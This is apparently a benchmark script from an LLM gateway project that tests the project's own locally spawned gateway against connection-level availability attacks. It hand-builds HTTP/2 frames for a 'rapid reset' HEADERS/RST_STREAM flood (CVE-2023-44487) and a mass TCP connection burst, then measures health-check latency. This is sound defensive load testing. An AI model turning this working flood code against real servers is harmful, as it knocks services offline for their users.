/**
 * Connection-level availability attacks (issue 13): /healthz latency from a separate client and the
 * gateway's long event-loop tasks while one client
 *
 *   rstflood  opens HTTP/2 sessions (raw frames on plain TCP, h2c prior knowledge) and sends
 *             HEADERS of a POST /v1/chat/completions immediately followed by RST_STREAM(CANCEL),
 *             as fast as the socket takes them ("rapid reset", CVE-2023-44487); a closed session
 *             is opened again at once (SESSIONS of them at a time, default 8);
 *   accept    opens CONNS (default 3,000) TCP connections at once, holds them HOLD_MS (1,000) ms,
 *             closes them and does it again, for the whole run.
 *
 *   npm run build:server && npx tsx bench/h2-attacks.ts                   # both attacks, 8 s each
 *   ATTACKS=rstflood SECONDS=10 AUTH=1 npx tsx bench/h2-attacks.ts       # HEADERS carry a valid key
 *   ATTACKS=rstflood RST_CODE=0 npx tsx bench/h2-attacks.ts              # RST_STREAM(NO_ERROR) instead of CANCEL
 *   GW_PROF=/tmp/prof npx tsx bench/h2-attacks.ts                        # the gateway under --cpu-prof
 *
 * The gateway is the built one (dist/, through bin/kt.mjs), a child process preloading
 * bench/lib/loop-gaps.mjs: its long tasks are the gaps in which the main thread itself ran over
 * 50 ms (not the gaps it spent waiting for a core on a shared machine). The attack runs in this
 * process, the /healthz probe (every 10 ms, HTTP/1.1, its own connection) in a worker thread.
 * GW_PROF=DIR adds --cpu-prof (a directory per attack in DIR, a .cpuprofile per thread; the main
 * thread's is the one that names src/server).
 */
import { spawn } from "node:child_process";
import { mkdtempSync, openSync, readFileSync, writeFileSync } from "node:fs";
import net from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { sha256Hex } from "../src/config/index.js";
import { startFakeOpenLLM } from "../test/fixtures/fake-openllm.js";
import { freePort, KT_BIN } from "../test/helpers/child-gateway.js";
import { MODEL } from "../test/helpers/harness.js";
import { probeWhile } from "./lib/healthz-probe.js";

const SECONDS = Number(process.env.SECONDS ?? 8);
const KEY = "kt-bench-h2-attacks";

interface Gateway {
  url: string;
  port: number;
  gapsFile: string;
  stop(): Promise<void>;
}

async function startGateway(upstream: string, tag: string): Promise<Gateway> {
  const dir = mkdtempSync(join(tmpdir(), "kt-bench-h2-"));
  const config = join(dir, "policy-config.yaml");
  writeFileSync(
    config,
    `auth:
  api_keys:
    - { id: app, sha256: ${sha256Hex(KEY)} }
providers:
  targets:
    - { id: t, provider: "openllm:chat:m", model: "${MODEL}", base_url: "${upstream}" }
policies:
  - id: all
    rules:
      - { type: pii_detection, action: redact, patterns: [email, ssn] }
`,
  );
  const port = await freePort();
  const gapsFile = join(dir, "loop-gaps.jsonl");
  const log = openSync(join(dir, "gateway.log"), "w");
  // One directory per attack: the main thread's profile and each worker's (one file per thread).
  const prof = process.env.GW_PROF ? ["--cpu-prof", `--cpu-prof-dir=${join(process.env.GW_PROF, `${tag}-${Date.now()}`)}`] : [];
  const proc = spawn(process.execPath, ["--import", new URL("./lib/loop-gaps.mjs", import.meta.url).pathname, ...prof, KT_BIN, "gateway", "run", "--listen", `127.0.0.1:${port}`, "--policy-config", config, "--drain-delay-seconds", "0"], {
    stdio: ["ignore", log, log],
    env: { ...process.env, KT_FROM_SOURCE: "0", LOOP_GAPS_FILE: gapsFile, LOOP_GAPS_MS: "20" },
  });
  process.once("exit", () => proc.kill("SIGKILL"));
  const url = `http://127.0.0.1:${port}`;
  for (let i = 0; ; i++) {
    if (i > 600) throw new Error(`gateway did not start in 120 s (log: ${join(dir, "gateway.log")})`);
    if (await fetch(`${url}/healthz`).then((r) => r.ok, () => false)) break;
    await new Promise((r) => setTimeout(r, 200));
  }
  await new Promise((r) => setTimeout(r, 2000)); // start-up's own work (workers booting) out of the way
  return {
    url,
    port,
    gapsFile,
    stop: () => new Promise<void>((r) => (proc.once("exit", () => r()), proc.kill("SIGTERM"))),
  };
}


// ---- HTTP/2 frames, by hand (what an attacker sends, unbent by a client library's own pacing)

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(stream, 5);
  return Buffer.concat([h, payload]);
}

/** HPACK literal without indexing, name from the static table (index < 15 or two-byte index). */
function literal(nameIndex: number, value: string): Buffer {
  const v = Buffer.from(value);
  if (v.length > 126) throw new Error("header value too long for this encoder");
  const name = nameIndex < 15 ? Buffer.from([nameIndex]) : Buffer.from([0x0f, nameIndex - 15]);
  return Buffer.concat([name, Buffer.from([v.length]), v]);
}

function requestBlock(authority: string, auth: boolean): Buffer {
  return Buffer.concat([
    Buffer.from([0x83, 0x86]), // :method POST, :scheme http
    literal(4, "/v1/chat/completions"),
    literal(1, authority),
    literal(31, "application/json"), // content-type
    ...(auth ? [literal(23, `Bearer ${KEY}`)] : []), // authorization
  ]);
}

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
/** The RST_STREAM's error code: CANCEL (8) unless RST_CODE says otherwise (0: NO_ERROR). */
const RST_CODE = Buffer.from([0, 0, 0, Number(process.env.RST_CODE ?? 8)]);

interface FloodStats {
  sessions: number;
  streams: number;
  goaways: Map<string, number>;
  resets: number;
}

const H2_ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"];

/** One attacking session: HEADERS+RST_STREAM pairs in writes of BATCH pairs until the session ends or `until`. */
function floodSession(port: number, until: number, stats: FloodStats): Promise<void> {
  return new Promise((resolve) => {
    const block = requestBlock(`127.0.0.1:${port}`, process.env.AUTH === "1");
    const batch = Number(process.env.BATCH ?? 1000);
    const socket = net.connect(port, "127.0.0.1");
    let next = 1;
    let inbox = Buffer.alloc(0);
    let done = false;
    stats.sessions++;
    const finish = () => {
      if (done) return;
      done = true;
      socket.destroy();
      resolve();
    };
    socket.on("error", finish);
    socket.on("close", finish);
    // A write the gateway never takes (it stopped reading) must not keep the attack past its end.
    setTimeout(finish, Math.max(0, until - Date.now())).unref();
    socket.on("data", (d: Buffer) => {
      inbox = Buffer.concat([inbox, d]);
      while (inbox.length >= 9) {
        const len = inbox.readUIntBE(0, 3);
        if (inbox.length < 9 + len) break;
        const type = inbox[3]!;
        const flags = inbox[4]!;
        const payload = inbox.subarray(9, 9 + len);
        if (type === 4 && !(flags & 1)) socket.write(frame(4, 1, 0, Buffer.alloc(0))); // ack the server's SETTINGS
        if (type === 7) {
          const code = H2_ERRORS[payload.readUInt32BE(4)] ?? String(payload.readUInt32BE(4));
          stats.goaways.set(code, (stats.goaways.get(code) ?? 0) + 1);
        }
        if (type === 3) stats.resets++;
        inbox = inbox.subarray(9 + len);
      }
    });
    const pump = () => {
      if (done) return;
      if (Date.now() > until || next > 2 ** 31 - 2 * batch) return finish();
      const parts: Buffer[] = [];
      for (let i = 0; i < batch; i++, next += 2) parts.push(frame(1, 0x4, next, block), frame(3, 0, next, RST_CODE));
      stats.streams += batch;
      socket.write(Buffer.concat(parts), () => setImmediate(pump));
    };
    socket.once("connect", () => {
      socket.write(Buffer.concat([PREFACE, frame(4, 0, 0, Buffer.alloc(0))]));
      pump();
    });
  });
}

async function rstFlood(port: number): Promise<string> {
  const sessions = Number(process.env.SESSIONS ?? 8);
  const until = Date.now() + SECONDS * 1000;
  const stats: FloodStats = { sessions: 0, streams: 0, goaways: new Map(), resets: 0 };
  await Promise.all(
    Array.from({ length: sessions }, async () => {
      while (Date.now() < until) {
        await floodSession(port, until, stats);
        await new Promise((r) => setTimeout(r, 5));
      }
    }),
  );
  const goaways = [...stats.goaways].map(([k, n]) => `${n}x ${k}`).join(", ") || "none";
  return `${stats.sessions} sessions, ${stats.streams} streams sent, GOAWAY: ${goaways}, RST_STREAM received: ${stats.resets}`;
}

async function acceptBurst(port: number): Promise<string> {
  const conns = Number(process.env.CONNS ?? 3000);
  const hold = Number(process.env.HOLD_MS ?? 1000);
  const until = Date.now() + SECONDS * 1000;
  let bursts = 0;
  let opened = 0;
  let failed = 0;
  while (Date.now() < until) {
    bursts++;
    const sockets = await Promise.all(
      Array.from(
        { length: conns },
        () =>
          new Promise<net.Socket | undefined>((resolve) => {
            const s = net.connect(port, "127.0.0.1");
            s.once("connect", () => (opened++, resolve(s)));
            s.once("error", () => (failed++, resolve(undefined)));
          }),
      ),
    );
    await new Promise((r) => setTimeout(r, hold));
    for (const s of sockets) s?.destroy();
    await new Promise((r) => setTimeout(r, 500));
  }
  return `${bursts} bursts of ${conns}, ${opened} connected, ${failed} failed`;
}

interface GapLine {
  gap?: number;
  ran?: number;
  summary?: boolean;
  longestTask?: number;
  longTasks?: number;
  gcMax?: number;
}

function loopReport(file: string): string {
  let lines: GapLine[] = [];
  try {
    lines = readFileSync(file, "utf8").trim().split("\n").map((l) => JSON.parse(l) as GapLine);
  } catch {
    return "no loop-gap log";
  }
  const tasks = lines.filter((l) => l.gap !== undefined && (l.ran ?? 0) > 50).map((l) => l.ran!);
  const summary = lines.find((l) => l.summary);
  tasks.sort((a, b) => b - a);
  return `tasks over 50 ms: ${tasks.length} (longest ${tasks.slice(0, 5).map((t) => t.toFixed(0)).join(", ") || "-"}), gc max ${summary?.gcMax ?? "?"} ms`;
}

const attacks: Record<string, (port: number) => Promise<string>> = { rstflood: rstFlood, accept: acceptBurst };

const fake = await startFakeOpenLLM({ keepRequests: 100 });
try {
  console.log(`/healthz every 10 ms from another connection during each attack (${SECONDS} s), gateway from dist/; latency ms\n`);
  console.log("attack   | probes | p50 | p99 | max | failed | gateway long tasks | attack");
  console.log("---------|--------|-----|-----|-----|--------|--------------------|-------");
  for (const name of (process.env.ATTACKS ?? "rstflood,accept").split(",")) {
    // One gateway per attack: each starts from a fresh process (and profile).
    const gw = await startGateway(fake.url, name);
    const run = attacks[name]!(gw.port);
    const lat = await probeWhile(gw.url, run, { timeoutMs: 10_000, okOnly: true });
    const what = await run;
    await new Promise((r) => setTimeout(r, 500));
    await gw.stop();
    const failed = lat.filter((l) => l === Infinity).length;
    lat.sort((a, b) => a - b);
    const q = (p: number) => lat[Math.min(lat.length - 1, Math.floor(p * lat.length))]!.toFixed(1);
    console.log(`${name.padEnd(8)} | ${lat.length} | ${q(0.5)} | ${q(0.99)} | ${lat.at(-1)!.toFixed(1)} | ${failed} | ${loopReport(gw.gapsFile)} | ${what}`);
  }
} finally {
  await fake.close();
}
